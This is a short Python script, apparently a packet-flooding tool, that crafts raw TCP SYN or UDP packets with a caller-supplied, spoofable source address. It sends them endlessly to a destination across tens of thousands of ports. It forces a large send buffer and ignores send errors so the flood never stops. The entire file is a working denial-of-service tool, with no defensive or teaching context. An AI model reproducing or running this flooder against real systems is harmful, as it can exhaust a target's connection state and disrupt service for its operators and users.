"""New flows without end, past the node's own stack: flood.py scan|spray SOURCE DESTINATION.

scan: a SYN to each port in turn. spray: a datagram from and to each. Runs until it is ended.
"""

import itertools
import socket
import struct
import sys

TCP, UDP = 6, 17
SO_SNDBUFFORCE = 32


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def packet(kind: str, source: bytes, destination: bytes, source_port: int, port: int) -> bytes:
    """The kernel writes total length and header checksum of a raw packet itself."""
    if kind == "scan":
        segment = struct.pack("!HHIIBBHHH", source_port, port, port, 0, 5 << 4, 2, 1024, 0, 0)
        proto, at = TCP, 16
    else:
        segment, proto, at = struct.pack("!HHHH4x", source_port, port, 12, 0), UDP, 6
    value = checksum(source + destination + struct.pack("!HH", proto, len(segment)) + segment)
    segment = segment[:at] + struct.pack("!H", value or 0xFFFF) + segment[at + 2:]
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, proto, 0, source, destination) + segment


def main(kind: str, source: str, destination: str) -> None:
    link = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    link.setsockopt(socket.SOL_SOCKET, SO_SNDBUFFORCE, 8 << 20)
    ends = socket.inet_aton(source), socket.inet_aton(destination)
    for source_port in itertools.count(30_000):
        for first in range(1000, 60_000, 500):
            for each in [packet(kind, *ends, source_port % 65_536, port) for port in range(first, first + 500)]:
                try:
                    link.sendto(each, (destination, 0))
                except OSError:                     # no room just now
                    continue


main(*sys.argv[1:])
